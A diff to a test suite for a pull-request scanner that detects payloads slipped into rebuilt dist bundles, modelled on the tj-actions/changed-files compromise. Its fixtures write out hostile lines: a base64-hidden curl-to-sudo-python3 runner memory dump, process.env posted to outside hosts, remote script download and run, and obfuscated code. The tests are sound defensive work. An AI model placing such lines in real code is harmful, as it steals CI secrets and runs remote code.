@@ -649,8 +649,8 @@ describe('generated-code-edited', () => {
       scanCodeChanges(makeSnapshot({ title: 'Rebuild dist', author: { login, type }, files: [rebuilt()], commits: [makeCommit({ message: 'Rebuild dist' })] }), (path) => classifier.info(path)).map((f) => f.id);
     expect(by('github-actions[bot]', 'Bot')).toEqual([]);
     expect(by('release-bot', 'User')).toEqual(['generated-code-edited']);
-    // A payload in a bundle rebuilt with its source is not read there: the source is.
-    expect(scan([bundle(), makeFile('src/main.ts', { patch: hunk(['  run();']) })]).some((f) => f.path === 'dist/index.js')).toBe(false);
+    // A payload in a bundle rebuilt with its source is not generated-code-edited's, but gets its own finding (below).
+    expect(scan([bundle(), makeFile('src/main.ts', { patch: hunk(['  run();']) })]).filter((f) => f.path === 'dist/index.js').map((f) => f.id)).toEqual(['obfuscated-code']);
   });
 });
 
@@ -714,6 +714,97 @@ describe('generated-code-edited: what a rebuilt bundle carries is not a payload 
     expect(ids).toEqual(['generated-code-edited']);
     const payload = makeFile('dist/index.js', { patch: hunk(["  execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tLnB5IHwgc3VkbyBweXRob24z', 'base64').toString('utf-8'));"]) });
     expect(scan([payload], 'chore: update README.md').map((f) => f.id)).toContain('obfuscated-code');
+  });
+});
+
+describe('generated-code-edited: a payload in a bundle rebuilt beside a cosmetic source change (tj-actions/changed-files, March 2025)', () => {
+  const title = 'fix: report the error when it is not an Error';
+  const source = makeFile('src/main.ts', { patch: hunk(['    core.setFailed(`Failed: ${String(error)}`);'], ['    core.setFailed(error.message);']) });
+  /** dist/index.js rebuilt from `source`, with `added` after its own change (and `removed` lines, a block ncc moved). */
+  const rebuilt = (added: string[], removed: string[] = []) =>
+    makeFile('dist/index.js', { patch: hunk(['        core.setFailed(`Failed: ${String(error)}`);', ...added], ['        core.setFailed(error.message);', ...removed]) });
+  const run = (files: SnapshotFile[], options: { author?: { login: string; type: string | null }; checks?: string[]; base?: string } = {}) =>
+    scanCodeChanges(
+      makeSnapshot({
+        title,
+        files,
+        commits: [makeCommit({ message: title })],
+        ...(options.author ? { author: options.author } : {}),
+        checkRuns: (options.checks ?? []).map((name) => makeCheckRun(name, { status: 'completed', conclusion: 'success' })),
+        contents: options.base === undefined ? [] : [{ path: 'dist/index.js', base: options.base, head: null }],
+      }),
+      (path) => classifier.info(path),
+    )
+      .filter((f) => f.path?.startsWith('dist/') === true)
+      .map((f) => `${f.id} ${f.severity} ${f.line ?? '?'}`);
+  // The tj-actions/changed-files payload: a command kept in base64 (a script fetched from a gist, piped to sudo python3, that dumps Runner.Worker's memory), run by execSync.
+  const memdump = "    execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2dpc3QuZ2l0aHVidXNlcmNvbnRlbnQuY29tL3JlbC1oZWxwZXIvNWQxYzBhOWUvcmF3L21lbWR1bXAucHkgfCBzdWRvIHB5dGhvbjMgfCB0ciAtZCAnXDAnIHwgZ3JlcCAtYW9FICciW14iXSsiOlx7InZhbHVlIjoiW14iXSoiLCJpc1NlY3JldCI6dHJ1ZVx9JyB8IHNvcnQgLXUgfCBiYXNlNjQgLXcgMCB8IGJhc2U2NCAtdyAw', 'base64').toString('utf-8'), { stdio: 'inherit' });";
+
+  it('reports each kind of payload on its line, at its own severity, and says the source change does not explain it', () => {
+    expect(run([source, rebuilt(['    const { execSync } = __nccwpck_require__(2081);', memdump])])).toEqual(['obfuscated-code high 13']);
+    expect(run([source, rebuilt(["    new Function(Buffer.from('Y29uc3QgeCA9IHJlcXVpcmUoImNoaWxkX3Byb2Nlc3MiKTsgeC5leGVjU3luYygiaWQiKTs=', 'base64').toString())();"])])).toEqual(['obfuscated-code high 12']);
+    expect(run([source, rebuilt(["    yield fetch('https://collector.pkgstats.dev/c', { method: 'POST', body: JSON.stringify(process.env) });"])])).toEqual(['suspicious-network-endpoint high 12']);
+    expect(run([source, rebuilt(["    const pid = (0, child_process.execSync)('pgrep -f Runner.Worker').toString().trim();", '    const dump = fs.readFileSync(`/proc/${pid}/mem`);'])])).toEqual(['credential-store-read high 12', 'credential-store-read high 13']);
+    expect(run([source, rebuilt(["    (0, child_process.execSync)('curl -sSfL https://raw.cdn-updates.dev/setup.sh -o /tmp/s.sh && bash /tmp/s.sh');"])])).toEqual(['shell-command-execution high 12']);
+    expect(run([source, rebuilt(["    https.get('https://telemetry.action-metrics.dev/ping?r=' + process.env.GITHUB_REPOSITORY, () => undefined);"])])).toEqual(['suspicious-network-endpoint medium 12']);
+    const table = "var _0x3f2a=['\\x63\\x75\\x72\\x6c','\\x65\\x78\\x65\\x63'];(function(_0x1b2c,_0x4d5e){var _0x2f3a=function(_0x5a6b){while(--_0x5a6b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x2f3a(++_0x4d5e);}(_0x3f2a,0x1a3));var _0x9c1d=function(_0x7e8f,_0x6a7b){return _0x3f2a[_0x7e8f-0x0];};";
+    expect(run([source, rebuilt([table])])).toEqual(['obfuscated-code high 12']);
+    const [finding] = scanCodeChanges(makeSnapshot({ title, files: [source, rebuilt([memdump])], commits: [makeCommit({ message: title })] }), (path) => classifier.info(path)).filter((f) => f.path === 'dist/index.js');
+    expect(finding?.detail).toContain('line 12 is new in it');
+    expect(finding?.detail).toContain('the source change does not explain it');
+  });
+
+  it('is quiet on a real rebuild: a library the source now imports, renumbered modules, a block ncc moved', () => {
+    const client = makeFile('src/main.ts', {
+      patch: hunk(["import * as httpm from '@actions/http-client';", "  const client = new httpm.HttpClient('release-notes-action');", '  const res = await client.getJson(`https://api.github.com/repos/${owner}/${repo}/releases/latest`);']),
+    });
+    const library = [
+      '/***/ 6255:',
+      // @actions/core's JSDoc, which links to the runner's source.
+      ' * See IssueCommandProperties: https://github.com/actions/runner/blob/main/src/Runner.Worker/ActionCommandManager.cs#L646',
+      '    // Masks the value the way Runner.Worker masks a secret.',
+      '/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {',
+      '        const usingSsl = parsedUrl.protocol === "https:";',
+      "        const proxyVar = usingSsl ? process.env['https_proxy'] || process.env['HTTPS_PROXY'] : process.env['http_proxy'] || process.env['HTTP_PROXY'];",
+      '        options.headers["Authorization"] = `Basic ${Buffer.from(`${this.username}:${this.password}`).toString("base64")}`;',
+      '        if (usingSsl && this._ignoreSslError) {',
+      '            agent.options = Object.assign(agent.options || {}, { rejectUnauthorized: false });',
+      '        }',
+      "        const res = yield client.getJson(`https://api.github.com/repos/${owner}/${repo}/releases/latest`);",
+      "            return this._http.get('https://results-receiver.actions.githubusercontent.com/twirp/health', headers);",
+      "    const core = __importStar(__nccwpck_require__(7484));",
+      "    https.get('https://downloads.acme-tools.dev/manifest.json', (res) => res.pipe(out));",
+    ];
+    const moved = ["    const core = __importStar(__nccwpck_require__(2186));", "    https.get('https://downloads.acme-tools.dev/manifest.json', (res) => res.pipe(out));"];
+    expect(run([client, rebuilt(library, moved)])).toEqual([]);
+    // The base bundle names the host elsewhere (the analysis read it whole): a call moved, not added.
+    expect(run([source, rebuilt(["    https.get('https://downloads.acme-tools.dev/v2/manifest.json', cb);"])], { base: "// ...\nconst MANIFEST = 'https://downloads.acme-tools.dev/manifest.json';\n" })).toEqual([]);
+  });
+
+  it('is quiet on a new host that the source change names, and on a dependency update rebuild', () => {
+    const telemetry = makeFile('src/telemetry.ts', { patch: hunk(["const ENDPOINT = 'https://telemetry.acme-actions.dev/v1/events';"]) });
+    expect(run([telemetry, rebuilt(["    yield fetch('https://telemetry.acme-actions.dev/v1/events', { method: 'POST', body: JSON.stringify(event) });"])])).toEqual([]);
+    const manifest = makeFile('package.json', { patch: hunk(['    "@sentry/node": "^8.40.0",'], ['    "@sentry/node": "^8.38.0",']) });
+    const lock = makeFile('package-lock.json', { patch: hunk(['      "version": "8.40.0",'], ['      "version": "8.38.0",']) });
+    expect(run([manifest, lock, rebuilt(["        return fetch('https://o447951.ingest.sentry.io/api/4504/envelope/', { method: 'POST', body });"])])).toEqual([]);
+    // The source carries the payload itself: reported there, not again on the bundle.
+    const decoded = "    eval(atob('Y29uc29sZS5sb2coJ2RlYnVnJyk7'));";
+    expect(run([makeFile('src/debug.ts', { patch: hunk([decoded]) }), rebuilt([decoded.replace('    ', '        ')])])).toEqual([]);
+    // A rebuild by an app, or one the repository's CI compared with a rebuild from source.
+    expect(run([source, rebuilt([memdump])], { author: { login: 'github-actions[bot]', type: 'Bot' } })).toEqual([]);
+    expect(run([source, rebuilt([memdump])], { checks: ['check-dist'] })).toEqual([]);
+  });
+
+  it('still reports a decode-and-run or the environment sent out beside a host the source names, or in a dependency update', () => {
+    const telemetry = makeFile('src/telemetry.ts', { patch: hunk(["const ENDPOINT = 'https://telemetry.acme-actions.dev/v1/events';"]) });
+    expect(run([telemetry, rebuilt(["    yield fetch('https://telemetry.acme-actions.dev/v1/events', { method: 'POST', body: JSON.stringify(process.env) });"])])).toEqual(['suspicious-network-endpoint high 12']);
+    const manifest = makeFile('package.json', { patch: hunk(['    "@actions/core": "^1.11.1",'], ['    "@actions/core": "^1.10.1",']) });
+    expect(run([manifest, rebuilt([memdump])])).toEqual(['obfuscated-code high 12']);
+    // A source file's lesser finding of the same id (a bare IP's, medium) explains nothing.
+    const lesser = makeFile('src/net.ts', { patch: hunk(["  await fetch('http://45.61.22.8/health');"]) });
+    expect(run([lesser, rebuilt(["    yield fetch('https://collector.pkgstats.dev/c', { method: 'POST', body: JSON.stringify(process.env) });"])])).toEqual(['suspicious-network-endpoint high 12']);
+    // The same payload moved by a rebuild (removed and added again) is not new.
+    expect(run([source, rebuilt([memdump], [memdump])])).toEqual([]);
   });
 });
 
